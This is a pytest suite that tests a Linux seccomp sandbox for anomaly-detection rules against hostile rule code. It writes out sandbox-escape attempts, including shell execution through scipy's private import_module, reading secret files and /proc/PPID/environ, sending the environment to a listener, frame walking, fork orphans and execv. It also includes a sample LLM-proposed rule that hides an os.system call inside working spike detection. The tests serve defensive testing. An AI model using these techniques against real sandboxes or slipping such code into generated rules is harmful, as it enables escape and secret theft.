"""Hostile rules, written as an attacker would, against the rule sandbox.

One rule per attack class (module reach-through, descriptor freeing, frame and format
walks, environment reading, fork and orphan, threads, memory fan-out, exec, shared-module
tampering, an LLM-proposed hostile rule). Every attack runs straight in the sandbox
process, with the static check bypassed, in both modes (a fresh process per call, as for
checks; a long-lived worker, as for inference), because the OS layer is what must hold.
Each test asserts that the attack had no effect outside (no file written, no connection
to a listener on 127.0.0.1, no process left, no secret in the output) and that the run
reports the rule as rejected with a clear reason.
"""

from __future__ import annotations

import os
import secrets
import signal
import socket
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest

from anomamind.rules.sandbox import RuleRejected, SandboxLimits, SandboxWorker, confinement_problem, vet_source

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the OS confinement is Linux's seccomp")

VALUES = np.sin(np.arange(400) / 7.0)
VALUES[[50, 300]] += 6.0
BOUNDS = [(0, 200), (200, 400)]
LIMITS = SandboxLimits(time_limit_s=3.0, memory_limit_mb=256, seconds_per_million_points=0.0)
CANARY = "canary-" + secrets.token_hex(8)
SECRET_VARIABLES = ("ANOMAMIND_API_KEY", "OPENAI_API_KEY", "HF_TOKEN", "ANTHROPIC_API_KEY")

HONEST = """
import numpy as np
from anomamind.rules import features as F

def detect(values):
    # far from the window's median
    return (np.abs(F.robust_zscore(values)) > 3.0).astype(np.int8)
"""
HONEST_FLAGS = [50, 300]

# --- the attacks. TARGET: a file that must not appear; SECRET_FILE: a file that must not be
# read; PORT: a listener that must get no connection; TOKEN: the name of any process an
# attack leaves behind (found by scanning /proc).

REACH_THROUGH_SHELL = """
import numpy as np
from scipy._lib.deprecation import import_module

def detect(values):
    # scipy's private re-export of importlib.import_module hands out os: run a shell command
    import_module("o" + "s").system("exec 2>&-; echo pwned > TARGET")
    return np.zeros(values.size, dtype=np.int8)
"""

REACH_THROUGH_READ = """
import numpy as np
import numpy.lib._datasource as ds

def detect(values):
    # a dotted import of numpy's private io helpers: read a file, leak its bits through the flags
    opener = ds._file_openers[None]
    try:
        opener(2).close()
    except Exception:
        pass
    data = opener("SECRET_FILE", "rb").read()
    bits = np.unpackbits(np.frombuffer(data, dtype=np.uint8))[: values.size]
    out = np.zeros(values.size, dtype=np.int8)
    out[: bits.size] = bits
    return out
"""

DESCRIPTOR_SOCKET = """
import numpy as np
import numpy.lib._datasource as ds
from scipy._lib.deprecation import import_module

def detect(values):
    # free descriptor 2 (defeats RLIMIT_NOFILE), then send the environment to a local listener
    try:
        ds._file_openers[None](2).close()
    except Exception:
        pass
    connection = import_module("socket").create_connection(("127.0.0.1", PORT), timeout=2)
    connection.sendall(str(dict(import_module("o" + "s").environ)).encode())
    connection.close()
    return np.zeros(values.size, dtype=np.int8)
"""

FRAME_WALK = """
def detect(values):
    # a running generator's frame leads back to the sandbox worker's globals and os.environ
    def climb(frame):
        leaked = ""
        while frame is not None:
            if "os" in frame.f_globals:
                leaked += str(dict(frame.f_globals["os"].environ))
            frame = frame.f_back
        return leaked
    walker = (climb(walker.gi_frame) for _ in range(1))
    raise ValueError(list(walker)[0])
"""

FORMAT_WALK = """
def detect(values):
    # str.format walks attributes the rule never names: frames, globals, os.environ
    leaked = ""
    for depth in range(1, 8):
        spec = "{0.gi_frame" + ".f_back" * depth + ".f_globals[os].environ}"
        walker = (spec.format(walker) for _ in range(1))
        try:
            leaked += list(walker)[0]
        except Exception:
            pass
    raise ValueError(leaked)
"""

ENVIRONMENT = """
import numpy.lib._datasource as ds
from scipy._lib.deprecation import import_module

def detect(values):
    # read this process's environment and its parent's (/proc/PPID/environ)
    os = import_module("o" + "s")
    leaked = str(dict(os.environ))
    try:
        ds._file_openers[None](2).close()
    except Exception:
        pass
    leaked += str(ds._file_openers[None]("/proc/%d/environ" % os.getppid(), "rb").read())
    raise ValueError(leaked)
"""

FORK_ORPHAN = """
import numpy as np
import numpy.lib._datasource as ds
from scipy._lib.deprecation import import_module

def detect(values):
    # a forked child outlives the run (named TOKEN), then writes a file
    os, time = import_module("o" + "s"), import_module("time")
    if os.fork() == 0:
        try:
            opener = ds._file_openers[None]
            try:
                opener(2).close()
            except Exception:
                pass
            with opener("/proc/self/comm", "w") as fh:
                fh.write("TOKEN")
            time.sleep(0.3)
            with opener("TARGET", "w") as fh:
                fh.write("pwned")
            time.sleep(30)
        finally:
            os._exit(0)
    return np.zeros(values.size, dtype=np.int8)
"""

MEMORY_FAN_OUT = """
import numpy as np
import numpy.lib._datasource as ds
from scipy._lib.deprecation import import_module

STARTED = []

def detect(values):
    # three forked children (named TOKEN) each hold 160 MB: the per-process cap is no cap
    os, time = import_module("o" + "s"), import_module("time")
    while len(STARTED) < 3:
        STARTED.append(1)
        if os.fork() == 0:
            try:
                opener = ds._file_openers[None]
                try:
                    opener(2).close()
                except Exception:
                    pass
                with opener("/proc/self/comm", "w") as fh:
                    fh.write("TOKEN")
                held = np.ones(20_000_000)
                time.sleep(5)
            finally:
                os._exit(0)
    return np.zeros(values.size, dtype=np.int8)
"""

THREAD = """
import numpy as np
import numpy.lib._datasource as ds
from scipy._lib.deprecation import import_module

def detect(values):
    # a thread that outlives the call and writes a file afterwards
    time = import_module("time")

    def later():
        time.sleep(0.3)
        opener = ds._file_openers[None]
        try:
            opener(2).close()
        except Exception:
            pass
        with opener("TARGET", "w") as fh:
            fh.write("pwned")

    import_module("_thread").start_new_thread(later, ())
    return np.zeros(values.size, dtype=np.int8)
"""

EXEC = """
from scipy._lib.deprecation import import_module

def detect(values):
    # replace the sandbox process by a shell that writes a file and lingers (as sleep ... TOKEN)
    import_module("o" + "s").execv("/bin/sh", ["sh", "-c", "echo pwned > TARGET; exec sleep 0 TOKEN"])
"""

TAMPER_REBIND = """
import numpy as np
from scipy._lib.deprecation import import_module

def detect(values):
    # rebind np.abs for every rule that runs after this one
    import_module("builtins").setattr(np, "abs", lambda x: x * 0 + 99.0)
    return np.zeros(values.size, dtype=np.int8)
"""

TAMPER_NUMPY_STATE = """
import numpy as np

def detect(values):
    # plain numpy API that passes any static check: make every later float warning an error
    np.seterr(all="raise")
    return np.zeros(values.size, dtype=np.int8)
"""

SLOPPY_HONEST = """
import numpy as np

def detect(values):
    # large values (the square root of a negative value is nan, which compares False)
    return (np.sqrt(values) > 2.0).astype(np.int8)
"""

ATTACKS = {
    "reach_through_shell": REACH_THROUGH_SHELL,
    "reach_through_read": REACH_THROUGH_READ,
    "descriptor_socket": DESCRIPTOR_SOCKET,
    "frame_walk": FRAME_WALK,
    "format_walk": FORMAT_WALK,
    "environment": ENVIRONMENT,
    "fork_orphan": FORK_ORPHAN,
    "memory_fan_out": MEMORY_FAN_OUT,
    "thread": THREAD,
    "exec": EXEC,
    "tamper_rebind": TAMPER_REBIND,
}


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection and what it received."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.1)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except Exception:
                continue
            with conn:
                conn.settimeout(1.0)
                chunks = [b"connected"]
                try:
                    while chunk := conn.recv(65536):
                        chunks.append(chunk)
                except Exception:
                    pass
                self.received.append(b"".join(chunks))

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


def processes_named(token: str) -> list[int]:
    """Pids whose name or command line carries ``token``."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            text = (entry / "comm").read_text() + (entry / "cmdline").read_bytes().decode(errors="replace")
        except Exception:
            continue
        if token in text:
            found.append(int(entry.name))
    return found


@pytest.fixture(scope="module")
def secret_env():
    """Put a canary in the secret variables of this (parent) process for the module."""
    saved = {k: os.environ.get(k) for k in SECRET_VARIABLES}
    os.environ.update({k: CANARY for k in SECRET_VARIABLES})
    yield CANARY
    for key, value in saved.items():
        if value is None:
            os.environ.pop(key, None)
        else:
            os.environ[key] = value


@pytest.fixture(scope="module")
def workers(secret_env):
    """One sandbox per mode (started after the canary is in the environment)."""
    with SandboxWorker(LIMITS, fresh_process_per_call=True) as fresh, SandboxWorker(LIMITS) as persistent:
        yield {"fresh": fresh, "persistent": persistent}


@pytest.fixture
def world(tmp_path):
    """What an attack could touch outside, and the check that it did not."""
    listener = Listener()
    token = str(secrets.randbelow(10**12) + 10**13)  # 14 digits: a process name and a number for sleep
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(f"the secret is {CANARY}\n")
    subst = {"TARGET": str(tmp_path / "pwned"), "SECRET_FILE": str(secret_file), "PORT": str(listener.port),
             "TOKEN": token}

    def render(source: str) -> str:
        for key, value in subst.items():
            source = source.replace(key, value)
        return source

    def assert_no_effect(output: str, settle_s: float = 0.0) -> None:
        time.sleep(settle_s)  # give a forked child the time it wanted before acting
        left = processes_named(token)
        for pid in left:  # processes this test's attack started: stop them before failing
            os.kill(pid, signal.SIGKILL)
        assert not (tmp_path / "pwned").exists(), "the rule wrote a file outside the sandbox"
        assert not listener.received, f"the rule connected to 127.0.0.1:{listener.port}: {listener.received[:1]}"
        assert not left, f"the rule left {len(left)} process(es) behind"
        assert CANARY not in output, "a secret reached the output"

    yield render, assert_no_effect
    listener.close()


def decoded(flags: np.ndarray) -> str:
    """What a rule could smuggle out through its flags, read back as bytes."""
    bits = (np.asarray(flags) != 0).astype(np.uint8)
    return np.packbits(bits).tobytes().decode("latin-1")


def run_attack(worker: SandboxWorker, source: str) -> tuple[RuleRejected | None, str]:
    """(the rejection or None, everything the run put out: flags as bytes, or the error)."""
    try:
        flags = worker.run(source, VALUES, BOUNDS, name="hostile")
    except RuleRejected as err:
        return err, str(err)
    return None, decoded(flags)


def test_the_os_confinement_is_available_here():
    """CI runs on Linux with seccomp: the hostile-rule suite must not silently lose its layer."""
    assert confinement_problem() is None


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_static_check_is_a_first_filter_for_every_attack(attack):
    """The documented paths vet a rule first: every attack here is refused before it runs,
    with a message that names the line and what is not allowed."""
    with pytest.raises(RuleRejected) as info:
        vet_source(ATTACKS[attack])
    assert info.value.kind == "static"
    assert "line " in info.value.reason and "is not allowed" in info.value.reason


@pytest.mark.parametrize("mode", ["fresh", "persistent"])
@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_hostile_rule_has_no_effect_outside(attack, mode, workers, world):
    render, assert_no_effect = world
    rejected, output = run_attack(workers[mode], render(ATTACKS[attack]))
    assert_no_effect(output, settle_s=0.6 if attack in ("fork_orphan", "memory_fan_out", "thread") else 0.0)
    if attack == "tamper_rebind":  # legal inside its own process: what matters is the next rule
        assert rejected is None or rejected.kind == "forbidden"
    else:
        assert rejected is not None, f"the {attack} rule ran to the end"
        assert rejected.kind in ("forbidden", "raised"), rejected
        if rejected.kind == "forbidden":
            assert "system call" in rejected.reason and "sandbox" in rejected.reason
    # the sandbox still works, and the rule changed nothing the next rule sees
    assert list(np.flatnonzero(workers[mode].run(HONEST, VALUES, BOUNDS))) == HONEST_FLAGS


@pytest.mark.parametrize("mode", ["fresh", "persistent"])
def test_frame_and_format_walks_find_no_secret_and_no_os(mode, workers, world):
    """Walking frames reaches only this rule's process: its environment holds no secret."""
    render, assert_no_effect = world
    for attack in ("frame_walk", "format_walk"):
        rejected, output = run_attack(workers[mode], render(ATTACKS[attack]))
        assert rejected is not None and rejected.kind == "raised"
        assert_no_effect(output)


@pytest.mark.parametrize("mode", ["fresh", "persistent"])
def test_numpy_state_changed_by_one_rule_is_not_seen_by_the_next(mode, workers):
    """Legal numpy calls that change process state (np.seterr) stay in the rule's process."""
    worker = workers[mode]
    expected = worker.run(SLOPPY_HONEST, VALUES, BOUNDS)
    assert list(np.flatnonzero(expected)) == HONEST_FLAGS
    worker.run(TAMPER_NUMPY_STATE, VALUES, BOUNDS)
    assert np.array_equal(worker.run(SLOPPY_HONEST, VALUES, BOUNDS), expected)


def test_training_candidates_do_not_see_each_others_tampering(secret_env):
    """The training loop validates every candidate in one long-lived worker: a candidate
    that changes numpy's state (legal code) must not change the next candidate's flags."""
    from anomamind.rules.data import build_split
    from anomamind.rules.loop import RuleTrainConfig, RuleTrainer, SeriesTask
    from anomamind.rules.proposer import Candidate
    from anomamind.types import Series

    labels = np.zeros(VALUES.size, dtype=np.int8)
    labels[HONEST_FLAGS] = 1
    split = build_split([Series(VALUES, labels, name="s")], 200)
    config = RuleTrainConfig(sandbox=LIMITS)
    trainer = RuleTrainer(None, SeriesTask(split, split, config), config)
    with SandboxWorker(LIMITS) as worker:
        alone = trainer.validate(Candidate("sloppy", SLOPPY_HONEST, "test"), worker)
        trainer.validate(Candidate("tamper", TAMPER_NUMPY_STATE, "test"), worker)
        after = trainer.validate(Candidate("sloppy-again", SLOPPY_HONEST, "test"), worker)
    assert list(np.flatnonzero(alone.flags)) == HONEST_FLAGS and alone.f1 == 1.0
    assert after is not None and np.array_equal(after.flags, alone.flags)


def test_rules_of_one_rule_set_share_one_process_and_nothing_else(secret_env):
    """At inference a rule set is one detector: its rules share one process (documented);
    another rule set, or the same rules run alone, never see what they did."""
    from anomamind.rules.detector import RuleSetDetector
    from anomamind.rules.rule import Rule, RuleSet
    from anomamind.types import Series

    series = [Series(VALUES, None, name="s")]
    detectors = [RuleSetDetector(RuleSet([Rule("tamper", TAMPER_NUMPY_STATE), Rule("sloppy", SLOPPY_HONEST)],
                                         window_length=200), limits=LIMITS),
                 RuleSetDetector(RuleSet([Rule("sloppy", SLOPPY_HONEST)], window_length=200), limits=LIMITS)]
    try:
        (shared, shared_errors), (alone, alone_errors) = (d.rule_flags(series) for d in detectors)
    finally:
        for detector in detectors:
            detector.close()
    assert alone_errors == [[]] and list(np.flatnonzero(alone[0])) == HONEST_FLAGS
    # inside the tampered set, the sloppy rule now raises (np.seterr(all="raise")): the
    # failure is reported, never silently turned into flags
    assert "FloatingPointError" in shared_errors[0][0] and not shared[1].any()


LLM_HOSTILE = """Here is a rule that finds the spikes.
```python
import numpy as np
from anomamind.rules import features as F
from scipy._lib.deprecation import import_module

def detect(values):
    # spikes: far from the window's median, in robust standard deviations
    try:
        import_module("o" + "s").system("exec 2>&-; echo pwned > TARGET")
    except Exception:
        pass
    return (np.abs(F.robust_zscore(values)) > 4).astype(np.int8)
```"""


def test_llm_proposed_hostile_rule_is_rejected_at_check_and_never_saved(tmp_path, world, capsys):
    """`rules train --proposer llm` against an endpoint that only ever proposes a hostile rule
    that hides its attack and otherwise finds the spikes."""
    from fake_chat_server import FakeChatServer

    from anomamind.cli import main
    from anomamind.envs.synthetic import write_tsbad_csv
    from anomamind.types import Series

    render, assert_no_effect = world
    for seed in range(6):
        rng = np.random.default_rng(seed)
        values, labels = rng.normal(size=600), np.zeros(600, dtype=np.int8)
        values[[100, 400]] += 9
        labels[[100, 400]] = 1
        write_tsbad_csv(Series(values, labels, name=f"{100 + seed}_SPIKY_id_{seed}_Synthetic_tr_300_1st_100"),
                        tmp_path / "data" / "SPIKY")
    with FakeChatServer(lambda body: render(LLM_HOSTILE)) as server:
        code = main(["rules", "train", "--data", str(tmp_path / "data"), "--datasets", "SPIKY",
                     "--out", str(tmp_path / "rules"), "--proposer", "llm",
                     "--set", f"llm.backend.base_url={server.base_url}", "--set", "llm.backend.api_key_env=null",
                     "--set", "max_rounds=1", "--set", "candidates_per_round=1", "--set", "window_length=300"])
        n_requests = len(server.requests)
    out = capsys.readouterr().out
    assert code == 1 and "no candidate passed the check" in out, out
    assert n_requests == 3  # the proposal and two repairs, each rejected at the check
    assert not list((tmp_path / "rules").rglob("*.py")), "a hostile rule was saved"
    assert_no_effect(out)


def test_bench_command_with_a_hostile_rule_file_leaks_nothing(tmp_path, world):
    """`anomamind bench --detector rules:FILE` in a fresh process whose environment holds the
    secrets (so /proc/PPID/environ would show them): the rule is refused with a clear
    one-line reason and no secret reaches the output or the files written."""
    import subprocess

    render, assert_no_effect = world
    rule_file = tmp_path / "hostile.py"
    rule_file.write_text(render(ENVIRONMENT))
    env = {**os.environ, **{k: CANARY for k in SECRET_VARIABLES}, "MPLBACKEND": "Agg"}
    result = subprocess.run(
        [sys.executable, "-m", "anomamind.cli", "bench", "--data", "synthetic:2", "--detector", f"rules:{rule_file}",
         "--out", str(tmp_path / "out"), "--sample-plots", "0", "--no-progress"],
        capture_output=True, text=True, env=env, timeout=300)
    written = "".join(p.read_text(errors="replace") for p in (tmp_path / "out").rglob("*") if p.is_file())
    assert_no_effect(result.stdout + result.stderr + written)
    assert result.returncode == 2
    assert "cannot be built: RuleRejected: static: rule 'hostile': line " in result.stderr
